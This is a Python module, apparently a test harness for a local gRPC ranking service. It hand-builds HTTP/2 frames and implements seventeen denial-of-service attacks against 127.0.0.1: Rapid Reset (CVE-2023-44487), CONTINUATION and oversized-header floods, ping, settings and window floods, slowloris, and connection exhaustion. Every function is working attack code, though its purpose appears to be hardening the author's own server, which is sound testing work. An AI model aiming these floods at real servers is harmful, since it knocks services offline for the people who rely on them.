"""Clients that mean harm, or are broken: raw HTTP/2 on sockets. Each attack is a function of (port, stop), which
returns once stop is set or the server has closed its connections; it returns how many of those the server closed."""

import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
CHUNK_STREAMS = 500  # of a flood: frames made at once
RANK = "/reelrank.v1.RankingService/Rank"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(prefix_bits, first, value):
    """HPACK's integers (RFC 7541, 5.1)."""
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytes([first | most]), value - most
    while value >= 128:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def literal(name, value):
    """A header that joins no table."""
    name, value = name.encode(), value.encode() if isinstance(value, str) else value
    return b"\0" + integer(7, 0, len(name)) + name + integer(7, 0, len(value)) + value


def request_headers(path=RANK, *more):
    pairs = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"),
             ("content-type", "application/grpc"), ("te", "trailers"), *more]
    return b"".join(literal(name, value) for name, value in pairs)


def message(body):
    return b"\0" + struct.pack(">I", len(body)) + body


def connect(port):
    return socket.create_connection(("127.0.0.1", port), timeout=10)


def start(port, settings=b""):
    """A connection on which both sides have said how they want it; what the server said is read and forgotten."""
    connection = connect(port)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, 1, 0))
    connection.recv(65536)
    return connection


def setting(name, value):
    return struct.pack(">HI", name, value)


def drain(connection):
    """Reads what has come. False: the server has closed the connection."""
    connection.setblocking(False)
    try:
        while True:
            if not connection.recv(1 << 16):
                return False
    except (BlockingIOError, InterruptedError):
        return True
    except OSError:
        return False
    finally:
        connection.settimeout(1)


def flood(port, stop, chunk, reads=True):
    """Sends chunk after chunk; chunk(number) gives bytes. 1 if the server closes the connection, else 0."""
    connection = start(port)
    connection.settimeout(1)
    number = 0
    while not stop.is_set():
        data = memoryview(chunk(number))
        number += 1
        while data and not stop.is_set():
            try:
                data = data[connection.send(data):]
            except socket.timeout:  # of what was sent to a connection that is closed one hears minutes later
                if reads and not drain(connection):
                    return 1
            except OSError:
                return 1
        if reads and not drain(connection):
            return 1
    connection.close()
    return 0


def stream_id(number):
    return (2 * number + 1) & 0x7FFFFFFF


def rapid_reset(port, stop):
    """Opens streams and resets them at once (CVE-2023-44487)."""
    block = request_headers()

    def chunk(number):
        first = number * CHUNK_STREAMS
        return b"".join(frame(HEADERS, END_HEADERS, stream_id(first + i), block)
                        + frame(RESET, 0, stream_id(first + i), struct.pack(">I", 8)) for i in range(CHUNK_STREAMS))

    return flood(port, stop, chunk)


def rapid_calls(port, stop):
    """Whole calls, each reset at once."""
    block, body = request_headers(), message(b"\x1a\x05hi-IN")

    def chunk(number):
        first = number * CHUNK_STREAMS
        return b"".join(frame(HEADERS, END_HEADERS, stream_id(first + i), block)
                        + frame(DATA, END_STREAM, stream_id(first + i), body)
                        + frame(RESET, 0, stream_id(first + i), struct.pack(">I", 8)) for i in range(CHUNK_STREAMS))

    return flood(port, stop, chunk)


def pings(port, stop):
    data = frame(PING, 0, 0, b"12345678") * 1000
    return flood(port, stop, lambda number: data)


def settings(port, stop):
    data = frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65535)) * 1000
    return flood(port, stop, lambda number: data)


def unread_settings(port, stop):
    """Does not read what the server has to acknowledge."""
    data = frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65535)) * 1000
    return flood(port, stop, lambda number: data, reads=False)


def windows(port, stop):
    data = frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 1000
    return flood(port, stop, lambda number: data)


def priorities(port, stop):
    data = frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 1)) * 1000
    return flood(port, stop, lambda number: data)


def empty_data(port, stop):
    """Frames without a byte of the message they are said to be of."""
    data = frame(DATA, 0, 1) * 1000
    return flood(port, stop, lambda number: data if number else frame(HEADERS, END_HEADERS, 1, request_headers()))


def continuations(port, stop):
    """Headers that never end."""
    part = literal("x", "y" * 100) * 100
    data = frame(CONTINUATION, 0, 1, part) * 100
    return flood(port, stop, lambda number: data if number else frame(HEADERS, 0, 1, request_headers()))


def long_header(port, stop):
    """One header that never ends (CVE-2023-33953)."""
    begin = request_headers() + b"\0" + integer(7, 0, 1) + b"x" + integer(7, 0, 1 << 30)
    data = frame(CONTINUATION, 0, 1, b"y" * 16000) * 10
    return flood(port, stop, lambda number: data if number else frame(HEADERS, 0, 1, begin))


def large_metadata(port, stop):
    """Calls whose metadata are above the limit."""
    block = request_headers(RANK, ("x", "y" * 12000))

    def chunk(number):
        first = number * 50
        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream_id(first + i), block) for i in range(50))

    return flood(port, stop, chunk)


def too_many_streams(port, stop):
    """Streams that nobody ends, whatever the server said of their number."""
    block = request_headers()

    def chunk(number):
        first = number * CHUNK_STREAMS
        return b"".join(frame(HEADERS, END_HEADERS, stream_id(first + i), block) for i in range(CHUNK_STREAMS))

    return flood(port, stop, chunk)


def unfinished_messages(port, stop, count=20):
    """Messages of 4 MiB that lack their last byte, on many streams and connections."""
    block, closed = request_headers(), 0
    connections = [start(port) for _ in range(count)]
    for connection in connections:
        opened = b"".join(frame(HEADERS, END_HEADERS, stream_id(i), block) for i in range(50))
        connection.sendall(opened + b"".join(
            frame(DATA, 0, stream_id(i), b"\0" + struct.pack(">I", 4 << 20)) for i in range(50)))
    body = frame(DATA, 0, 0, b"x" * 16000)
    while not stop.is_set() and closed < count:
        for index, connection in enumerate(connections):
            if connection is None:
                continue
            try:
                connection.settimeout(0.02)
                for i in range(50):
                    connection.send(body[:5] + struct.pack(">I", stream_id(i)) + body[9:])
            except socket.timeout:
                pass
            except OSError:
                connections[index] = None
                closed += 1
                continue
            if not drain(connection):
                connections[index] = None
                closed += 1
    return closed


def hold(port, stop, connections, each_second):
    """Keeps connections open until the server has closed them; calls each_second(connection) now and then."""
    open_ones, closed = list(connections), 0
    while not stop.wait(0.2) and open_ones:
        for connection in list(open_ones):
            try:
                if not each_second(connection) or not drain(connection):
                    raise OSError
            except socket.timeout:
                pass
            except OSError:
                connection.close()
                open_ones.remove(connection)
                closed += 1
    for connection in open_ones:
        connection.close()
    return closed


def slow_writers(port, stop, count=200):
    """A byte now and then (slowloris)."""
    def begin():
        connection = start(port)
        connection.sendall(frame(HEADERS, END_HEADERS, 1, request_headers()))
        connection.sendall(struct.pack(">I", 100000)[1:] + bytes([DATA, 0]) + struct.pack(">I", 1))
        return connection

    def say(connection):
        connection.send(b"\0")
        return True

    return hold(port, stop, [begin() for _ in range(count)], say)


def half_open(port, stop, count=200):
    """Connections that say nothing at all."""
    return hold(port, stop, [connect(port) for _ in range(count)], lambda connection: True)


def many_connections(port, stop, count=1500):
    """More connections than there may be, each well begun."""
    connections = []
    for _ in range(count):
        try:
            connections.append(start(port))
        except OSError:
            pass
    return hold(port, stop, connections, lambda connection: True)


def slow_readers(port, stop, body=b"", count=50):
    """Calls whose answers are never read: the window is shut."""
    block = request_headers()
    calls = b"".join(frame(HEADERS, END_HEADERS, stream_id(i), block)
                     + b"".join(frame(DATA, 0, stream_id(i), message(body)[at:at + 16384])
                                for at in range(0, len(body) + 5, 16384))
                     + frame(DATA, END_STREAM, stream_id(i)) for i in range(90))
    connections = [start(port, setting(INITIAL_WINDOW_SIZE, 0)) for _ in range(count)]
    for connection in connections:
        connection.settimeout(0.5)
        try:
            connection.sendall(calls)
        except OSError:
            pass
    return hold(port, stop, connections, lambda connection: True)


ATTACKS = [rapid_reset, rapid_calls, pings, settings, unread_settings, windows, priorities, empty_data, continuations,
           long_header, large_metadata, too_many_streams, unfinished_messages, slow_writers, half_open,
           many_connections, slow_readers]
